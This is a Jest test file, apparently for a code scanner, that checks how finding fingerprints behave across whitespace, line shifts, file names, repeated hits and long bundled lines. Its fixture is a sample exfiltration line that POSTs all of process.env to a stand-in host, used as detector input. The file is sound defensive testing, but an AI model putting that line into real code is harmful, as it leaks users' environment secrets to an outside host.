import { describe, expect, it } from '@jest/globals';
import { scanOf, type Files } from './testing/hits-of.ts';

const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const of = (files: Files): readonly string[] => scanOf(files).findings.map((finding) => finding.fingerprint);

describe('a fingerprint', () => {
  it.each([
    ['lines are put before it', `// one\n\n// two\n${SEND}`],
    ['it is indented', `    ${SEND}`],
    ['white space in it changes', SEND.replaceAll(', ', ',   ')],
    ['lines come after it', `${SEND}\nconst a = 1;`],
  ])('stays where %s', (...[, source]) => {
    expect(of({ 'index.js': source })).toEqual(of({ 'index.js': SEND }));
  });

  it.each([
    ['the file is another', { 'other.js': SEND }],
    ['the code is another', { 'index.js': SEND.replace('fetch', 'globalThis.fetch') }],
  ])('changes where %s', (...[, files]) => {
    expect(of(files)).toHaveLength(1);
    expect(of(files)).not.toEqual(of({ 'index.js': SEND }));
  });

  it('counts findings that look alike', () => {
    const [first, second, third] = of({ 'index.js': `${SEND}\n${SEND}\n${SEND}` });
    expect([second, third]).toEqual([first?.replace(/:1$/, ':2'), first?.replace(/:1$/, ':3')]);
  });

  it('tells findings of one long line apart', () => {
    const bundle = `${'a();'.repeat(5_000)}${SEND}${'b();'.repeat(5_000)}${SEND}c();`;
    const hashes = scanOf({ 'index.js': bundle }).findings.map(({ lineHash }) => lineHash);
    expect(new Set(hashes).size).toBe(2);
  });

  it('goes with the digest of its file', () => {
    const { findings } = scanOf({ 'package.json': '{"scripts":{"prepare":"tsc"}}' });
    expect(findings).toMatchObject([
      {
        sha256: 'e3b51dd33f3b40148db5886358c0a897c3d86ce2e250d18136be601df5d0f1f3',
        lineHash: expect.any(String),
      },
    ]);
  });
});
